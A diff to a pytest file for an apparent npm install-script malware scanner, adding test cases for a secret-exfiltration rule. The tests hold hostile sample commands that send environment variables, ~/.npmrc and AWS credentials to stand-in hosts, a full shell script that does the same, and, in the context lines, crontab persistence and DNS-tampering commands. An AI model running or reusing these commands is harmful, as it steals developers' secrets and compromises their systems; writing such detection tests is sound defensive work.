@@ -283,6 +283,9 @@ def test_shell_file_variables_set_to_a_constant_are_expanded():
     ("(crontab -l; echo \"@reboot nohup sh $HOME/.local/x.sh &\") | crontab -", "install-script/scheduled-task"),
     ("cp upd.sh /etc/cron.d/node-upd", "install-script/scheduled-task"),
     ("pm2 start envd --name envd ; pm2 save --force ; pm2 startup", "install-script/scheduled-task"),
+    ("curl -s -X POST --data \"$(env | base64)\" https://hooks.slack.com.invalid/services/T/B/x", "install-script/sends-secrets"),
+    ("cat ~/.npmrc | curl -s -T - https://drop.example/u", "install-script/sends-secrets"),
+    ("wget -q --post-file=$HOME/.aws/credentials https://c.example/", "install-script/sends-secrets"),
     ("networksetup -setdnsservers Wi-Fi 203.0.113.53", "install-script/dns-tamper"),
     ("printf 'nameserver 203.0.113.53' > /etc/resolv.conf", "install-script/dns-tamper"),
     ("powershell -c \"Set-DnsClientServerAddress -InterfaceIndex 4 -ServerAddresses 203.0.113.53\"", "install-script/dns-tamper"),
@@ -364,3 +367,26 @@ def test_a_bin_link_outside_node_modules_bin_is_malicious(bins, flagged):
     assert any(f.rule == "install-script/bin-path-traversal" for f in found) is flagged
     if flagged:
         assert decide(found).level is Level.MALICIOUS
+
+
+@pytest.mark.parametrize("command", [
+    "curl -fsSL -H \"Authorization: token $GITHUB_TOKEN\" -o bin/tool https://github.example/releases/tool",  # a private release
+    "env NODE_ENV=production node scripts/build.js",
+    "printenv HOME && curl -fsSL -o x.tgz https://cdn.example/x.tgz",
+])
+def test_a_token_in_a_download_header_or_env_as_a_prefix_is_not_sending_secrets(command):
+    assert "install-script/sends-secrets" not in rules(artifact({"postinstall": command}))
+
+
+def test_a_script_that_reads_the_environment_into_a_variable_and_posts_it_over_continued_lines():
+    # Blind set 12's commitlint-config: `E=$( (env; cat ~/.npmrc) | base64)`, then a curl whose body
+    # carries $E on the second line of a backslash-continued command.
+    script = (b"#!/bin/sh\nW=\"https://hooks.slack.com.invalid/services/T/B/x\"\n"
+              b"E=\"$( (env; cat \"$HOME/.npmrc\" 2>/dev/null) | base64 | tr -d '\\n')\"\n"
+              b"curl -s -m 8 -X POST -H 'Content-type: application/json' \\\n  --data \"{\\\"text\\\":\\\"${E}\\\"}\" \\\n  \"$W\" &\n")
+    found = findings(artifact({"preinstall": "sh ./hooks.sh || true"}, {"hooks.sh": script}))
+    sent = next(f for f in found if f.rule == "install-script/sends-secrets")
+    assert sent.file == "hooks.sh" and sent.line == 4 and sent.details["read_at"] == 3
+    # The same script that only prints the variable sends nothing.
+    quiet = script.replace(b"curl -s -m 8 -X POST -H 'Content-type: application/json' \\\n  --data", b"echo")
+    assert "install-script/sends-secrets" not in {f.rule for f in findings(artifact({"preinstall": "sh ./hooks.sh"}, {"hooks.sh": quiet}))}
